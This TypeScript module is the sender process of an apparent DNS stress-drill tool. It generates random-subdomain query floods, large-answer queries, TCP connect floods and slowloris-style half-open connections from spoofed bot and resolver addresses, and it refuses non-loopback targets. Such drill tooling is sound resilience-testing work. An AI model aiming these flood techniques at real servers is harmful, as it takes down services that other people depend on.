/**
 * One attack sender process (forked by `FloodPool`): random-subdomain queries against the
 * victim zone from resolver and bot addresses, valid names and large answers from bot
 * addresses, at the rate the parent sets, through the native sender (sendmmsg, per-datagram
 * source address) or Node sockets. It stops by itself at its deadline, at its packet budget,
 * or when the parent goes away. Answers are counted by the kind tag in the ID's top two bits.
 * @module
 */
import { createSocket, type Socket } from 'node:dgram';
import { connect, type Socket as TcpSocket } from 'node:net';
import { type AttackMix, type FloodInit, type FloodMessage, KINDS, type TcpFlood } from './flood-protocol.js';
import { COUNTS_PER_KIND, type DrillAddon, loadDrillAddon, NATIVE_BATCH, toNetworkOrder } from './native.js';
import { wireName, writeQuery } from './packet.js';
import { botAddress, rotatingAddress } from './population.js';
import { ipv4ToNumber, isLoopbackAddress, numberToIpv4 } from './target.js';
import { hostName, zoneOrigin } from './zones.js';

let init: FloodInit | undefined;
let rate = 0;
let mixCdf = [0, 0, 1, 1];
let phaseStart = 0;
let phaseSent = 0;
let behind = 0;
let total = 0;
let stopped = false;
const sent = [0, 0, 0, 0];
const counts = new Uint32Array(KINDS.length * COUNTS_PER_KIND);

let rng = 0x9e3779b9;
function rnd(): number {
  rng ^= rng << 13;
  rng ^= rng >>> 17;
  rng ^= rng << 5;
  return (rng >>> 0) / 4294967296;
}

// Packet material.
let victimSuffix: Uint8Array = new Uint8Array(0);
let validNames: Uint8Array[] = [];
let bigNames: Uint8Array[] = [];
/** The names by wire length (GSO runs need queries of one length). */
const validByLength = new Map<number, Uint8Array[]>();
const bigByLength = new Map<number, Uint8Array[]>();

function byLength(names: Uint8Array[], into: Map<number, Uint8Array[]>): void {
  for (const n of names) {
    const list = into.get(n.length) ?? [];
    list.push(n);
    into.set(n.length, list);
  }
}
const LABEL_CHARS = Uint8Array.from('abcdefghijklmnopqrstuvwxyz0123456789', (c) => c.charCodeAt(0));
/** Room per message: one query, or a GSO run of up to MAX_GSO random-subdomain queries. */
const SLOT = 4096;
const MAX_GSO = 64;
const batch = new Uint8Array(NATIVE_BATCH * SLOT);
const offsets = Uint32Array.from({ length: NATIVE_BATCH }, (_, i) => i * SLOT);
const lengths = new Uint16Array(NATIVE_BATCH);
const segs = new Uint16Array(NATIVE_BATCH);
const srcs = new Uint32Array(NATIVE_BATCH);
const srcHost = new Uint32Array(NATIVE_BATCH);
const nameBuf = new Uint8Array(256);
/** Random-subdomain queries per GSO message (1: no GSO). */
let gso = 1;

/** Writes 12 random label characters at `at` (two draws of 6 base-36 digits each). */
function randomLabel(at: number): void {
  for (let half = 0; half < 2; half++) {
    let x = (rnd() * 2176782336) >>> 0; // 36^6
    for (let j = 0; j < 6; j++) {
      batch[at + half * 6 + j] = LABEL_CHARS[x % 36];
      x = Math.floor(x / 36);
    }
  }
}

/** Writes a new ID of `kind` at `at`. */
function writeId(at: number, kind: number): void {
  const id = (kind << 14) | ((rnd() * 16384) >>> 0);
  batch[at] = id >> 8;
  batch[at + 1] = id & 255;
}

/** Writes one random-subdomain query of `kind` at `at`; returns its length. */
function writeRandomSubdomain(at: number, kind: number): number {
  nameBuf[0] = 12;
  nameBuf.set(victimSuffix, 13);
  const len = writeQuery(batch, at, 0, nameBuf.subarray(0, 13 + victimSuffix.length), 1);
  writeId(at, kind);
  randomLabel(at + 13);
  return len;
}

/**
 * Writes message i of `kind` and sets its source; returns how many datagrams it holds: a GSO
 * run of up to `gso` queries of equal length, all from one source (one query when gso is 1).
 */
function build(i: number, kind: number, room: number): number {
  const cfg = init!;
  const at = i * SLOT;
  let count = 1;
  segs[i] = 0;
  if (kind === 0 || kind === 1) {
    // The first query written in full; the others copies of it with their own ID and label.
    count = Math.max(1, Math.min(gso, room));
    const len = writeRandomSubdomain(at, kind);
    for (let j = 1; j < count; j++) {
      const q = at + j * len;
      batch.copyWithin(q, at, at + len);
      writeId(q, kind);
      randomLabel(q + 13);
    }
    lengths[i] = len * count;
    if (count > 1) segs[i] = len;
  } else {
    // Valid names (or the large TXT): a run of names of one length, so the queries are equal.
    const large = kind === 3;
    const names = large ? bigNames : validNames;
    const first = names[Math.floor(rnd() * names.length)];
    const bucket = (large ? bigByLength : validByLength).get(first.length) ?? [first];
    count = Math.max(1, Math.min(gso, room));
    const len = writeQuery(batch, at, 0, first, large ? 16 : 1, large ? { size: 4096 } : undefined);
    writeId(at, kind);
    for (let j = 1; j < count; j++) {
      const q = at + j * len;
      batch.copyWithin(q, at, at + len);
      writeId(q, kind);
      if (bucket.length > 1) batch.set(bucket[(rnd() * bucket.length) >>> 0], q + 12);
    }
    lengths[i] = len * count;
    if (count > 1) segs[i] = len;
  }
  const src =
    kind === 0 && cfg.resolverAddresses.length > 0
      ? cfg.resolverAddresses[Math.floor(rnd() * cfg.resolverAddresses.length)]
      : rotate > 0
        ? rotatingAddress(rotateStep++, rotate, (rnd() * 250) >>> 0)
        : botAddress(Math.floor(rnd() * cfg.bots));
  srcHost[i] = src;
  srcs[i] = toNetworkOrder(src);
  return count;
}

function pickKind(): number {
  const u = rnd();
  for (let k = 0; k < 4; k++) if (u < mixCdf[k]) return k;
  return 3;
}

// maps25: --rotate-24s — the bots' /24s taken in turn (each sender from its own starting /24).
let rotate = 0;
let rotateStep = 0;

// I/O: native, or Node sockets keyed by source address.
let addon: DrillAddon | undefined;
let fd = -1;
let dstNet = 0;
const nodeSockets = new Map<number, Socket>();
let nodeSources: number[] = [];

/** Sends up to `budget` datagrams in one batch of messages; returns how many went out. */
function sendBatch(budget: number): number {
  const kinds: number[] = [];
  const counts: number[] = [];
  let msgs = 0;
  let planned = 0;
  while (msgs < NATIVE_BATCH && planned < budget) {
    const k = pickKind();
    kinds.push(k);
    const c = build(msgs, k, budget - planned);
    counts.push(c);
    planned += c;
    msgs++;
  }
  const cfg = init!;
  let taken = 0;
  if (addon) {
    taken = addon.send(fd, cfg.family, dstNet, cfg.port, batch, offsets, lengths, srcs, msgs, segs);
    if (taken < 0 && gso > 1) {
      // The kernel refused GSO: send one datagram per message from now on.
      gso = 1;
    }
    if (taken < 0) taken = 0;
  } else {
    for (let i = 0; i < msgs; i++) {
      const s = nodeSockets.get(srcHost[i]) ?? nodeSockets.get(nodeSources[i % nodeSources.length]);
      // dgram sends later: a copy, since the batch buffer is rewritten before then.
      s?.send(Buffer.from(batch.subarray(i * SLOT, i * SLOT + lengths[i])), cfg.port, cfg.host);
    }
    taken = msgs;
  }
  let datagrams = 0;
  for (let i = 0; i < taken; i++) {
    sent[kinds[i]] += counts[i];
    datagrams += counts[i];
  }
  return datagrams;
}

function onNodeAnswer(m: Buffer): void {
  if (m.length < 4) return;
  const base = (m[0] >> 6) * COUNTS_PER_KIND;
  counts[base + (m[3] & 15)]++;
  if (m[2] & 2) counts[base + 16]++;
  counts[base + 17]++;
}

function report(type: 'stats' | 'done', reason?: string): void {
  tcpCounts[5] = slowSockets.size;
  const msg: FloodMessage = {
    type,
    sent: [...sent],
    counts: [...counts],
    behind,
    total,
    tcp: [...tcpCounts],
    reason,
  };
  if (process.connected) process.send?.(msg);
}

function stop(reason: string): void {
  if (stopped) return;
  stopped = true;
  if (addon && fd >= 0) {
    addon.drain(fd, counts, 1_000_000);
    addon.close(fd);
  }
  for (const s of nodeSockets.values()) s.close();
  if (tcpTimer) clearInterval(tcpTimer);
  for (const s of [...slowSockets, ...connectSockets]) s.destroy();
  report('done', reason);
  process.disconnect?.();
  setTimeout(() => process.exit(0), 50).unref();
}

function loop(): void {
  if (stopped) return;
  const cfg = init!;
  const now = performance.now();
  if (Date.now() >= cfg.deadline) {
    stop('deadline');
    return;
  }
  if (addon) addon.drain(fd, counts, 4096);
  if (rate <= 0) {
    setTimeout(loop, 5);
    return;
  }
  let due = Math.floor(((now - phaseStart) * rate) / 1000) - phaseSent;
  const slack = Math.max(256, Math.floor(rate * 0.02));
  if (due > slack) {
    // Behind schedule (the sender is slower than the rate): the debt is forgotten, counted.
    behind += due - slack;
    phaseSent += due - slack;
    due = slack;
  }
  // At most 4096 per turn, then the answers are drained (the socket buffer holds only so many).
  let budget = Math.floor(Math.min(due, 4096, cfg.maxPackets - total));
  while (budget > 0) {
    const k = sendBatch(budget);
    phaseSent += k;
    total += k;
    budget -= k;
    if (k === 0) break;
  }
  if (total >= cfg.maxPackets) {
    stop('packet budget');
    return;
  }
  if (due <= 0) setTimeout(loop, 1);
  else setImmediate(loop);
}

// TCP floods: connections from bot addresses (Node sockets; at most TCP_OPEN_CAP open per sender).
const TCP_OPEN_CAP = 3000;
const tcpCounts = [0, 0, 0, 0, 0, 0];
let tcpFlood: TcpFlood = {};
let tcpAcc = 0;
let tcpLast = 0;
let tcpTimer: NodeJS.Timeout | undefined;
const slowSockets = new Set<TcpSocket>();
const connectSockets = new Set<TcpSocket>();

function tcpSource(): string {
  const cfg = init!;
  return cfg.family === 6 ? '::1' : numberToIpv4(botAddress(Math.floor(rnd() * cfg.bots)));
}

function openConnect(): void {
  const cfg = init!;
  tcpCounts[0]++;
  if (total >= cfg.maxPackets) return;
  total++;
  const sock = connect({ host: cfg.host, port: cfg.port, localAddress: tcpSource() });
  connectSockets.add(sock);
  const name = validNames[Math.floor(rnd() * validNames.length)];
  const len = writeQuery(nameBuf, 2, Math.floor(rnd() * 65536), name, 1);
  nameBuf[0] = len >> 8;
  nameBuf[1] = len & 255;
  const frame = Buffer.from(nameBuf.subarray(0, 2 + len));
  let got = 0;
  sock.setTimeout(2000, () => sock.destroy());
  sock.on('connect', () => {
    tcpCounts[1]++;
    sock.write(frame);
  });
  sock.on('data', (d) => {
    got += d.length;
    if (got >= 2) {
      tcpCounts[2]++;
      sock.destroy();
    }
  });
  sock.on('error', () => {
    tcpCounts[3]++;
  });
  sock.on('close', () => connectSockets.delete(sock));
}

function openSlow(): void {
  const cfg = init!;
  tcpCounts[0]++;
  const sock = connect({ host: cfg.host, port: cfg.port, localAddress: tcpSource() });
  slowSockets.add(sock);
  let mine = false;
  sock.on('connect', () => {
    tcpCounts[1]++;
    sock.write(Uint8Array.of(0)); // one octet of the two-octet length, then nothing
  });
  sock.on('error', () => {
    tcpCounts[3]++;
  });
  sock.on('close', () => {
    slowSockets.delete(sock);
    if (!mine && !stopped) tcpCounts[4]++;
  });
  (sock as TcpSocket & { dropByUs?: () => void }).dropByUs = () => {
    mine = true;
    sock.destroy();
  };
}

function tcpTick(): void {
  if (stopped) return;
  const now = performance.now();
  const dt = Math.min(0.1, (now - tcpLast) / 1000);
  tcpLast = now;
  const cfg = init!;
  const share = 1 / cfg.senders;
  tcpAcc += (tcpFlood.connect ?? 0) * share * dt;
  while (tcpAcc >= 1) {
    tcpAcc -= 1;
    if (connectSockets.size + slowSockets.size < TCP_OPEN_CAP) openConnect();
  }
  const slowWant = Math.min(Math.round((tcpFlood.slow ?? 0) * share), TCP_OPEN_CAP);
  for (let i = 0; i < 50 && slowSockets.size < slowWant; i++) openSlow();
  if (slowSockets.size > slowWant)
    for (const s of [...slowSockets].slice(0, slowSockets.size - slowWant))
      (s as TcpSocket & { dropByUs?: () => void }).dropByUs?.();
}

async function openNode(cfg: FloodInit): Promise<void> {
  const v6 = cfg.family === 6;
  const want: number[] = v6 ? [0] : [];
  if (!v6) {
    for (let b = cfg.index; b < Math.min(cfg.bots, 512 * cfg.senders); b += cfg.senders)
      want.push(botAddress(b));
    for (const a of cfg.resolverAddresses.slice(0, 256)) want.push(a);
  }
  for (const a of want) {
    const s = createSocket(v6 ? 'udp6' : 'udp4');
    s.on('message', onNodeAnswer);
    s.on('error', () => {});
    await new Promise<void>((res) => s.bind(0, v6 ? '::1' : numberToIpv4(a), () => res()));
    nodeSockets.set(a, s);
  }
  nodeSources = [...nodeSockets.keys()];
}

process.on('message', async (msg: { type: string } & Record<string, unknown>) => {
  if (msg.type === 'init') {
    const cfg = msg as unknown as FloodInit;
    if (!isLoopbackAddress(cfg.host)) {
      process.send?.({
        type: 'done',
        reason: 'refused: not loopback',
        sent,
        counts: [],
        behind: 0,
        total: 0,
      });
      process.exit(2);
    }
    init = cfg;
    rng = (cfg.seed * 2654435761 + cfg.index + 1) >>> 0 || 1;
    victimSuffix = wireName(zoneOrigin(cfg.victim));
    for (let k = 0; k < cfg.zones; k++) {
      bigNames.push(wireName(`big.${zoneOrigin(k)}`));
      for (let i = 0; i < Math.min(cfg.names, 2000); i++) validNames.push(wireName(hostName(k, i)));
    }
    validNames = validNames.length > 0 ? validNames : [wireName(zoneOrigin(0))];
    bigNames = bigNames.length > 0 ? bigNames : [wireName(zoneOrigin(0))];
    byLength(validNames, validByLength);
    byLength(bigNames, bigByLength);
    const loaded = cfg.io === 'node' ? { reason: '--io node' } : loadDrillAddon();
    if (loaded.addon) {
      const f = loaded.addon.open(cfg.family);
      if (f >= 0) {
        addon = loaded.addon;
        fd = f;
        dstNet = cfg.family === 6 ? 0 : toNetworkOrder(ipv4ToNumber(cfg.host));
      }
    }
    if (addon) gso = Math.max(1, Math.min(MAX_GSO, Math.floor(cfg.gso)));
    rotate = cfg.family === 4 && cfg.rotate24s !== undefined && cfg.rotate24s > 0 ? cfg.rotate24s : 0;
    rotateStep = Math.floor((rotate * cfg.index) / cfg.senders);
    if (!addon) {
      if (cfg.io === 'native' || rotate > 0) {
        process.send?.({
          type: 'done',
          reason: `native sender unavailable${rotate > 0 ? ' (--rotate-24s needs it)' : ''}: ${loaded.reason}`,
          sent,
          counts: [],
          behind: 0,
          total: 0,
        });
        process.exit(2);
      }
      await openNode(cfg);
    }
    const ports = addon
      ? [addon.port(fd)].filter((x) => x > 0)
      : [...nodeSockets.values()].map((s) => s.address().port);
    process.send?.({
      type: 'ready',
      ports,
      io: addon ? (gso > 1 ? `native-gso${gso}` : 'native') : 'node',
      sources:
        cfg.family === 6
          ? 1
          : addon
            ? (rotate > 0 ? rotate * 250 : cfg.bots) + cfg.resolverAddresses.length
            : nodeSockets.size,
    });
    setInterval(() => report('stats'), 200).unref();
    tcpLast = performance.now();
    tcpTimer = setInterval(tcpTick, 10);
    loop();
  } else if (msg.type === 'rate') {
    // The counters as the rate changes: the parent's phase boundary.
    if (addon) addon.drain(fd, counts, 1_000_000);
    report('stats', 'rate');
    rate = Number(msg.rate);
    tcpFlood = (msg.tcp as TcpFlood | undefined) ?? {};
    const mix = msg.mix as AttackMix;
    const w = KINDS.map((k) => Math.max(0, mix[k] ?? 0));
    const sum = w.reduce((a, b) => a + b, 0) || 1;
    let acc = 0;
    mixCdf = w.map((x) => (acc += x / sum));
    phaseStart = performance.now();
    phaseSent = 0;
  } else if (msg.type === 'stop') {
    stop('stopped');
  }
});
process.on('disconnect', () => stop('parent gone'));
process.on('error', () => {}); // a report racing the parent's exit
